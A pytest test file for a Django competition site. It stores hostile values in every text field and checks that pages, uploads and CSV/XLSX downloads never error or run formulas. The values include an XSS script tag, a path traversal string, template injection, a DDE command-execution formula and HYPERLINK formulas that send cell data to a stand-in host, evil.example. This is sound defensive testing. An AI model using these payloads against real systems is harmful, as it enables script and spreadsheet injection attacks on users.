"""Any stored value displays safely everywhere: hostile-but-legitimate values in every text field
of every model, then every public, manager and admin page (and download) is fetched: no 500.

The data: the circuit file with awkward names and labels, a season of every other system built
through the ORM, then every free-text field of every row of every competition model overwritten
with one of the values below. The crawl follows the links of the pages themselves, so a system's
pages are covered as soon as they are linked."""

import copy
import csv
import io
import random
import re
import zipfile
from collections import deque
from decimal import Decimal
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import openpyxl
import pytest
from django.apps import apps
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import models
from django.test import Client
from django.urls import reverse

from competitions.models import (
    Game,
    Group,
    Player,
    Round,
    RoundEntry,
    Season,
    SeasonPlayer,
    Series,
    Tournament,
)
from competitions.systems.keizer.models import StartPoints
from rankings.imports import import_competition

pytestmark = pytest.mark.django_db

HOSTILE = [
    "Ticket to Ride / Europe",
    "2026/27",
    "a?b#c%d&e=f+g",
    "\"quoted\" and 'single'",
    "<script>alert('x')</script><b>bold</b>",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)",
    "Ελληνικά ονόματα",
    "中文名字",
    "e\u0301le\u0300ve o\u0308",  # combining accents
    "\u202eevil\u202c right-to-left",
    "../../etc/passwd",
    "  spaced   out  ",
    "{{ 7|add:7 }} {% now 'Y' %}",
    "x" * 200,
]
# Fields that are not free text: ids and slugs (validated), choices, and what the systems read.
NOT_FREE_TEXT = {"key", "slug", "label", "system", "status", "colour", "result", "scale"}
MAX_PAGES = 500


def hostile(n: int, length: int) -> str:
    return HOSTILE[n % len(HOSTILE)][:length]


def hostile_circuit(circuit_file) -> dict:
    data = copy.deepcopy(circuit_file)
    data["season"] = "2026/27"
    data["name"] = HOSTILE[4]
    for n, club in enumerate(data["clubs"]):
        club["name"] = hostile(n + 3, 200)
    for n, player in enumerate(data["players"]):
        player["name"] = hostile(n, 200)
    games = [HOSTILE[0], HOSTILE[5], HOSTILE[8], HOSTILE[3], "///"]
    n = 0
    for t in data["tournaments"]:
        t["name"] = hostile(n + 6, 200)
        for round_ in t["rounds"]:
            for table in round_["tables"]:
                table["game"] = games[n % len(games)]
                n += 1
    return data


def other_systems() -> None:
    """A season of each system besides the circuit, with a row of every model it uses."""
    for system in ("othello-gp", "chess-bgp", "keizer", "bridge-ladder"):
        series = Series.objects.create(slug=f"s-{system}", name=HOSTILE[4], system=system)
        season = Season.objects.create(series=series, label="2025/26 #1?", name=HOSTILE[5])
        players = [
            Player.objects.create(series=series, key=f"p{n}", name=hostile(n, 200))
            for n in range(4)
        ]
        for n, player in enumerate(players):
            SeasonPlayer.objects.create(season=season, player=player, position=n)
        tournament = Tournament.objects.create(season=season, key="t.1", name=HOSTILE[6])
        group = Group.objects.create(tournament=tournament, name=HOSTILE[0])
        round_ = Round.objects.create(season=season, tournament=tournament, group=group, number=1)
        game = Game.objects.create(round=round_, result="1-0")
        for player, colour in zip(players, ("white", "black"), strict=False):
            RoundEntry.objects.create(
                round=round_, player=player, status="played", game=game, colour=colour
            )
        RoundEntry.objects.create(round=round_, player=players[2], status="bye")
        season_round = Round.objects.create(season=season, number=1)
        _system_rows(system, tournament, group, season_round, players)


def _system_rows(system, tournament, group, round_, players) -> None:
    if system == "othello-gp":
        placement = apps.get_model("competitions", "Placement")
        for n, player in enumerate(players, 1):
            placement.objects.create(
                tournament=tournament, player=player, place=n, country="SE", nordic=Decimal(1500)
            )
    elif system == "chess-bgp":
        member = apps.get_model("competitions", "GroupPlayer")
        for n, player in enumerate(players):
            member.objects.create(group=group, player=player, position=n, player_class=HOSTILE[n])
    elif system == "bridge-ladder":
        pool = apps.get_model("competitions", "Pool").objects.create(round=round_, number=1)
        challenge = apps.get_model("competitions", "Challenge").objects.create(
            round=round_, number=1
        )
        for n, player in enumerate(players):
            apps.get_model("competitions", "PoolMember").objects.create(
                pool=pool, player=player, position=n, reason=HOSTILE[n]
            )
            apps.get_model("competitions", "ChallengeScore").objects.create(
                challenge=challenge, player=player, imps=Decimal(n) - Decimal("1.5")
            )


def overwrite_free_text(texts: list[str] = HOSTILE) -> None:
    """Every free-text field of every row of every competition model gets a hostile value (one
    of `texts`)."""
    for model in apps.get_app_config("competitions").get_models():
        if model.__name__.startswith("Historical"):
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not f.choices
            and f.name not in NOT_FREE_TEXT
            and f.editable
            and not (model is Season and f.name == "recompute_error")
        ]
        for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
            values = {
                f.name: texts[(n + i) % len(texts)][: f.max_length or 300]
                for i, f in enumerate(fields)
            }
            if model.__name__ == "Table":
                values["game"] = values["game"].strip() or "x"
            if values:
                model.objects.filter(pk=pk).update(**values)


@pytest.fixture
def hostile_data(circuit_file, django_user_model):
    import_competition(hostile_circuit(circuit_file))
    later = hostile_circuit(circuit_file)
    later["season"] = "Été 2027/28 ?#"
    import_competition(later)
    other_systems()
    overwrite_free_text()
    call_command("recompute", stdout=open("/dev/null", "w"))  # noqa: SIM115
    manager = django_user_model.objects.create_user("manager", password="pw-manager-123")
    for series in Series.objects.all():
        series.managers.add(manager)
    return manager


LINK = re.compile(r"""(?:href|action)=["']([^"'#]+)""")
SKIP = ("/accounts/logout", "/i18n/", "/admin/logout", "/static/", "/admin/jsi18n")


def crawl(
    client: Client, starts: list[str], within: tuple[str, ...], inspect=None
) -> dict[str, int]:
    """Fetch every same-site page reachable from `starts` (GET only), up to MAX_PAGES;
    `inspect(url, html)` sees each HTML page."""
    seen: dict[str, int] = {}
    queue = deque(starts)
    while queue and len(seen) < MAX_PAGES:
        url = queue.popleft()
        if url in seen:
            continue
        response = client.get(url)
        seen[url] = response.status_code
        if response.status_code in (301, 302):
            queue.append(urljoin(url, response["Location"]))
            continue
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        html = response.content.decode("utf-8", "replace")
        if inspect:
            inspect(url, html)
        for href in LINK.findall(html):
            target = urljoin(url, unescape(href))
            parts = urlsplit(target)
            if parts.netloc and parts.netloc != "testserver":
                continue
            path = parts.path + (f"?{parts.query}" if "_export" in parts.query else "")
            if path.startswith(within) and not path.startswith(SKIP) and path not in seen:
                queue.append(path)
    return seen


def assert_no_server_errors(seen: dict[str, int]) -> None:
    errors = {url: status for url, status in seen.items() if status >= 500}
    assert errors == {}, errors


def test_every_public_page_and_download_shows_hostile_values(client, hostile_data):
    seen = crawl(client, ["/", "/help/"], ("/",))
    assert_no_server_errors(seen)
    # The crawl reached the seasons, tournaments, game pages, players and downloads.
    assert any("/2026-27/tournaments/" in url for url in seen)
    assert any("/games/" in url for url in seen)
    assert any("/players/" in url for url in seen)
    assert any("_export=xlsx" in url for url in seen)
    for season in Season.objects.select_related("series"):
        for fmt in ("json", "zip"):
            url = reverse("standings_download", args=[season.series.slug, season.slug, fmt])
            assert client.get(url).status_code in (200, 404), url


ODD_QUERIES = (
    "per_page=-3",
    "per_page=0",
    "per_page=99999999999999999999",
    "per_page=abc",
    "page=-1",
    "page=0",
    "page=abc",
    "page=99999",
    "sort=nosuchcolumn",
    "sort=-name&page=2",
    "tables=-1&round=99",
    "ceremony=all&every=abc",
)


def test_typed_addresses_of_public_pages_never_answer_a_server_error(client, hostile_data):
    """Page sizes, page numbers and sorts typed into the address bar (a negative page size
    answered 500 on every paginated page before page_size)."""
    seen = crawl(client, ["/", "/help/"], ("/",))
    pages = [url for url, status in seen.items() if status == 200 and "_export" not in url]
    assert len(pages) > 20
    answers = {}
    quiet = Client(raise_request_exception=False)
    for url in pages:
        for query in ODD_QUERIES:
            answers[f"{url}?{query}"] = quiet.get(f"{url}?{query}").status_code
    assert_no_server_errors(answers)


def test_every_manager_page_shows_hostile_values(client, hostile_data):
    client.force_login(hostile_data)
    seen = crawl(client, ["/manage/"], ("/manage/",))
    assert_no_server_errors(seen)
    assert any("/rounds/" in url for url in seen)
    assert any(url.endswith("/settings/") for url in seen)


INPUT = re.compile(r"<input\b[^>]*>")
# What a browser's number and date fields accept as their value: anything else shows empty,
# and the form then sends nothing back for it.
READABLE = {"number": re.compile(r"-?\d+(\.\d+)?"), "date": re.compile(r"\d{4}-\d{2}-\d{2}")}


@pytest.mark.parametrize("language", ["nl", "sv", "nb"])
def test_number_and_date_fields_of_manager_pages_show_their_values_in_every_language(
    client, hostile_data, language
):
    """The Keizer list wrote 12.5 start points as "12,5000" in Dutch: a number field shows
    nothing for it, and saving the list dropped them. Every field a manager's page fills in,
    in a language that writes numbers with a comma."""
    StartPoints.objects.bulk_create(
        StartPoints(entry=entry, start_points=Decimal("12.5"))
        for entry in SeasonPlayer.objects.exclude(keizer_start__isnull=False)
    )
    StartPoints.objects.update(start_points=Decimal("12.5"))
    client.force_login(hostile_data)
    client.cookies["django_language"] = language
    filled, unreadable = [], {}

    def inspect(url, html):
        for tag in INPUT.findall(html):
            kind = re.search(r'\btype="([a-z]+)"', tag)
            value = re.search(r'\bvalue="([^"]*)"', tag)
            if kind and kind.group(1) in READABLE and value and value.group(1):
                filled.append(tag)
                if not READABLE[kind.group(1)].fullmatch(value.group(1)):
                    unreadable[url] = tag

    seen = crawl(client, ["/manage/"], ("/manage/",), inspect)
    assert_no_server_errors(seen)
    assert unreadable == {}
    assert any('value="12.5"' in tag for tag in filled)  # the Keizer list's start points
    assert any('type="date"' in tag for tag in filled)


def test_every_admin_page_shows_hostile_values(admin_client, hostile_data):
    urls = ["/admin/"]
    for model in admin.site._registry:
        name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        urls += [
            reverse(f"{name}_changelist"),
            reverse(f"{name}_changelist") + "?q=%3Cscript%3E%2F%3D",
            reverse(f"{name}_add"),
        ]
        for pk in model._default_manager.values_list("pk", flat=True)[:3]:
            urls += [
                reverse(f"{name}_change", args=[pk]),
                reverse(f"{name}_history", args=[pk]),
            ]
    seen = {url: admin_client.get(url).status_code for url in urls}
    assert_no_server_errors(seen)
    assert sum(1 for status in seen.values() if status == 200) > 100


# A month's abbreviation as English writes it ("4 Dec 2026", "15 Mrt", "4 Okt"): Django's "M"
# title-cases it in every language, where Dutch, Swedish and Norwegian write "4 dec 2026".
TITLE_CASED_MONTH = re.compile(
    r"\b\d{1,2}\.?\s(?:Jan|Feb|Mar|Mrt|Apr|May|Mei|Maj|Mai|Jun|Jul|Aug|Sep|Oct|Okt|Nov|Dec|Des)\b"
)
# A date as the US writes it ("01/05/2025" for 5 January): read as 1 May in Europe.
NUMERIC_DATE = re.compile(r"\b\d{1,2}/\d{1,2}/\d{4}\b")
TAG = re.compile(r"<[^>]+>")


@pytest.mark.parametrize("language", ["en", "nl", "sv", "nb"])
def test_every_page_writes_its_dates_as_the_language_does(client, hostile_data, language):
    client.force_login(hostile_data)
    client.cookies["django_language"] = language
    wrong: dict[str, set[str]] = {}
    dated = []

    def inspect(url, html):
        text = TAG.sub(" ", html)
        found = set(NUMERIC_DATE.findall(text))
        if language != "en":
            found |= set(TITLE_CASED_MONTH.findall(text))
        if found:
            wrong[url] = found
        dated.extend(re.findall(r"\b\d{1,2}\.?\s[A-Za-z]{3,5}\.?\s20\d\d\b", text))

    seen = crawl(client, ["/", "/manage/"], ("/",), inspect)
    assert_no_server_errors(seen)
    assert wrong == {}
    assert len(dated) > 10  # the pages do show dates


SORT_LINK = re.compile(r"""href=["']\?((?:[^"'#]*&amp;)?sort=[^"'#&]+)""")


def test_every_sortable_column_of_every_public_page_sorts(client, hostile_data):
    """Each column header's sort link, both ways: the cells of a column may mix numbers, empty
    cells and text (rankings.tables.FoldedListData sorts them)."""
    pages: dict[str, set[str]] = {}

    def inspect(url, html):
        for query in SORT_LINK.findall(html):
            pages.setdefault(url, set()).add(unescape(query))

    assert_no_server_errors(crawl(client, ["/"], ("/",), inspect))
    seen = {}
    for url, queries in pages.items():
        for query in queries:
            other = (
                query.replace("sort=-", "sort=")
                if "sort=-" in query
                else query.replace("sort=", "sort=-")
            )
            for sort in (query, other):
                seen[f"{url}?{sort}"] = client.get(f"{url}?{sort}").status_code
    assert_no_server_errors(seen)
    assert len(seen) > 100 and set(seen.values()) == {200}, len(seen)


# --- files and typed text: every upload and every textarea of every system ------------------------


class Forms(HTMLParser):
    """The forms of a page that take a file or a typed text: their action, fields and values
    as the page shows them, and the name of their first submit button."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._textarea: str | None = None
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self._form = {"action": a.get("action", ""), "data": {}, "texts": [], "files": []}
            return
        form = self._form
        if form is None:
            return
        name = a.get("name")
        if tag == "input" and name:
            kind = a.get("type", "text")
            if kind == "file":
                form["files"].append(name)
                if binary_upload(a.get("accept", "")):
                    form.setdefault("binary", []).append(name)
            elif kind in ("checkbox", "radio"):
                if "checked" in a:
                    form["data"].setdefault(name, []).append(a.get("value", "on"))
            elif kind == "submit":
                form.setdefault("submit", (name, a.get("value", "")))
            else:
                form["data"][name] = [a.get("value", "")]
        elif tag == "button" and name and a.get("type", "submit") == "submit":
            form.setdefault("submit", (name, a.get("value", "")))
        elif tag == "textarea" and name:
            self._textarea = name
            form["data"][name] = [""]
            form["texts"].append(name)
        elif tag == "select" and name:
            self._select = name
        elif tag == "option" and self._select:
            if "selected" in a or self._select not in form["data"]:
                form["data"][self._select] = [a.get("value", "")]

    def handle_data(self, data):
        if self._form is not None and self._textarea:
            self._form["data"][self._textarea][0] += data

    def handle_endtag(self, tag):
        if tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None
        elif tag == "form" and self._form is not None:
            if self._form["texts"] or self._form["files"]:
                self.forms.append(self._form)
            self._form = None


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06" + bytes(
        range(256)
    )


def _oversized(kind: str) -> bytes:
    # A file over every upload's limit (the largest is a TRF file's 2 MB); a typed text over
    # every textarea's (200,000 characters), under Django's 2.5 MB for a whole request.
    line = b"1; Anna Lindqvist; SE; 1500\n"
    return line * (3_000_000 // len(line) + 1) if kind == "file" else b"x" * 300_000


# (name, content, a pattern of the message that names the problem, refused whatever the form)
HOSTILE_FILES = [
    ("nul", lambda kind: b"1; Anna; SE; 1500\n2; An\x00na; SE; 1500\n", r"Line 2: .*U\+0000"),
    ("escape", lambda kind: b"Catan = 4\n\x1b[31mCatan = 5\n", r"Line 2: .*U\+001B"),
    ("random-bytes", lambda kind: random.Random(45).randbytes(4096), r"Line \d+: "),
    ("png", lambda kind: _png(), r"Line \d+: "),
    ("oversized", _oversized, r"larger than|at most"),
    (
        "field-200kb",
        lambda kind: b"1; " + b"x" * 200_000 + b"; SE; 1500\n",
        r"Line 1: |larger than|at most",
    ),
]
CR_ONLY = b"1; Anna Lindqvist; SE; 1500\r2; Elsa Noren; SE; debutant\r"
# A file input that takes another program's database (accept names no text type): every hostile
# file but the oversized one is refused as not that kind of file, not by a line of text.
NOT_THAT_FILE = r"is not an? .* file"


def binary_upload(accept: str) -> bool:
    return bool(accept) and not any(t in accept for t in (".csv", ".txt", ".trf", "text/"))


@pytest.fixture
def entry_data(hostile_data):
    """hostile_data, plus what shows the remaining entry forms: an empty chess group (its TRF
    import) and a bridge season without a ladder (its set-up)."""
    tournament = Tournament.objects.get(season__series__slug="s-chess-bgp")
    Group.objects.create(tournament=tournament, name="Empty group", position=5)
    bridge = Series.objects.get(slug="s-bridge-ladder")
    Season.objects.create(series=bridge, label="2026/27", name="Not set up")
    return hostile_data


def stored_rows() -> dict[str, list]:
    """Every row of every competition model (and its history), to compare before and after."""
    return {
        model._meta.label: sorted(model.objects.values_list(), key=repr)
        for model in apps.get_app_config("competitions").get_models()
    }


def entry_forms(client) -> list[tuple[str, dict]]:
    forms: list[tuple[str, dict]] = []

    def inspect(url, html):
        parser = Forms()
        parser.feed(html)
        forms.extend((url, form) for form in parser.forms)

    assert_no_server_errors(crawl(client, ["/manage/"], ("/manage/",), inspect))
    return forms


def post_entry(client, url: str, form: dict, field: str, content: bytes):
    data = {name: values for name, values in form["data"].items()}
    if "submit" in form:
        data[form["submit"][0]] = form["submit"][1]
    if field in form["files"]:
        data[field] = SimpleUploadedFile("hostile.csv", content, content_type="text/csv")
    else:
        data[field] = content.decode("latin-1")  # each byte a character, as typed
    return client.post(urljoin(url, form["action"] or url), data)


def test_every_upload_and_typed_entry_refuses_hostile_files_with_a_message(client, entry_data):
    """Every form of the manager pages that takes a file or a typed text (the crawl finds them:
    Othello's typed and uploaded standings, the bridge CSV, set-up, late joiners and pool names,
    the chess TRF import, the circuit's final table sizes, the KeizerForClubs move-in), sent a
    NUL, an escape character, random bytes, a PNG, a file over the limit and a 200 KB field:
    never a 500, nothing stored, and the page names the problem (its line where it has one; an
    upload of another program's database says the file is not one). A CR-only text is read as
    lines: no 500, and if refused, nothing stored."""
    client.force_login(entry_data)
    forms = entry_forms(client)
    fields = {(url, field) for url, form in forms for field in form["texts"] + form["files"]}
    # Othello typed and upload, bridge set-up, next round, pool names and CSV, chess TRF, and
    # the circuit's settings (two seasons).
    assert {field.split("-")[-1] for _url, field in fields} >= {
        "text",
        "file",
        "players",
        "joining",
        "pool_names",
        "final_table_sizes",
    }
    assert any("/groups/" in url for url, _field in fields)  # the TRF import
    quiet = Client(raise_request_exception=False)
    quiet.force_login(entry_data)
    failures = []
    for url, form in forms:
        for field in form["texts"] + form["files"]:
            kind = "file" if field in form["files"] else "text"
            before = stored_rows()
            for name, content, message in HOSTILE_FILES:
                if field in form.get("binary", ()) and name != "oversized":
                    message = NOT_THAT_FILE
                response = post_entry(quiet, url, form, field, content(kind))
                page = unescape(response.content.decode("utf-8", "replace"))
                where = f"{url} {field} {name}"
                if response.status_code >= 500:
                    failures.append(f"{where}: {response.status_code}")
                elif response.status_code == 302:
                    failures.append(f"{where}: accepted")
                elif not re.search(message, page):
                    failures.append(f"{where}: no message like {message!r}")
                elif stored_rows() != before:
                    failures.append(f"{where}: stored something")
            response = post_entry(quiet, url, form, field, CR_ONLY)
            if response.status_code >= 500:
                failures.append(f"{url} {field} cr-only: {response.status_code}")
            elif response.status_code != 302 and stored_rows() != before:
                failures.append(f"{url} {field} cr-only: refused but stored something")
    assert failures == []


# --- downloads: no cell a spreadsheet would run --------------------------------------------------

# Names a spreadsheet would run: a formula's first character, and a CR or LF in the middle (a
# CR left unquoted starts a new row in a spreadsheet, the rest of the name a cell of its own).
FORMULAS = [
    "=1+2",
    "+SUM(1;2)",
    "-cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    'Anna\r=HYPERLINK("http://evil.example","x")',
    "Bert\n+1",
    "Cis\r\n@A1",
    "=x\r-y",
]
SPREADSHEET_FORMATS = ("csv", "xlsx")


@pytest.fixture
def formula_data(circuit_file):
    import_competition(hostile_circuit(circuit_file))
    other_systems()
    overwrite_free_text(FORMULAS)
    call_command("recompute", stdout=open("/dev/null", "w"))  # noqa: SIM115


def runnable(cell) -> bool:
    """A cell a spreadsheet would run as a formula (rankings.exports' rule, written again here
    so that the test does not trust the code it tests)."""
    return (
        isinstance(cell, str)
        and cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)
    )


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8"), newline=""))
    return [cell for row in rows for cell in row]


def test_every_download_of_every_system_is_inert(client, formula_data):
    """Every CSV and XLSX download linked from the public pages and every season's zipped CSVs,
    of every system, with names that start a formula or hold a CR or LF: every cell, as
    Python's csv module (or openpyxl) reads it, is text a spreadsheet shows, never a formula.
    The zipped CSVs wrote a CR unquoted (lineterminator "\\n"): 497 cells in 33 archives ran."""
    seen = crawl(client, ["/"], ("/",))
    assert_no_server_errors(seen)
    downloads = {url for url in seen if "_export=csv" in url or "_export=xlsx" in url}
    for season in Season.objects.select_related("series"):
        downloads.add(reverse("standings_download", args=[season.series.slug, season.slug, "zip"]))
    files: dict[str, list] = {}
    texts: list[str] = []  # the XLSX text cells
    for url in sorted(downloads):
        response = client.get(url)
        assert response.status_code in (200, 404), url
        if response.status_code == 404:
            continue
        if url.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
                for name in archive.namelist():
                    files[f"{url} {name}"] = csv_cells(archive.read(name))
        elif "_export=csv" in url:
            files[url] = csv_cells(response.content)
        else:
            book = openpyxl.load_workbook(io.BytesIO(response.content))
            cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells), url
            # A text cell shows what it holds as typed, whatever it starts with; only the
            # other cells could run.
            texts += [c.value for c in cells if c.data_type == "s"]
            files[url] = [c.value for c in cells if c.data_type != "s"]
    running = {name: [c for c in cells if runnable(c)] for name, cells in files.items()}
    assert {name: cells for name, cells in running.items() if cells} == {}
    # Every system's downloads were read, and they did hold the names (neutralised, whole).
    for slug in ("belgian-circuit", "s-othello-gp", "s-chess-bgp", "s-keizer", "s-bridge-ladder"):
        assert any(f"/{slug}/" in name and "_export=csv" in name for name in files), slug
        assert any(f"/{slug}/" in name and "standings.zip" in name for name in files), slug
    every = [c for cells in files.values() for c in cells if isinstance(c, str)]
    assert any(c.startswith("'=") for c in every) and any(c.startswith("'\r") for c in every)
    assert any(c.startswith("Anna\r=HYPERLINK") for c in every)
    # The XLSX hold the names as typed (no apostrophe), as text.
    assert any(c.startswith("=") for c in texts) and not any(c.startswith("'") for c in texts)


def test_a_page_download_in_a_format_not_offered_is_no_server_error(client, formula_data):
    """`?_export=` of a format django-tables2 knows but the site does not offer (ODS, XLS,
    YAML need packages it does not install; they answered 500): the page, not an error."""
    seen = crawl(client, ["/"], ("/",))
    pages = {url.split("?")[0] for url in seen if "_export=csv" in url}
    assert pages
    quiet = Client(raise_request_exception=False)
    answers = {
        f"{url}?_export={fmt}": quiet.get(url, {"_export": fmt}).status_code
        for url in sorted(pages)
        for fmt in ("ods", "xls", "yaml", "tsv", "latex", "json")
    }
    assert_no_server_errors(answers)
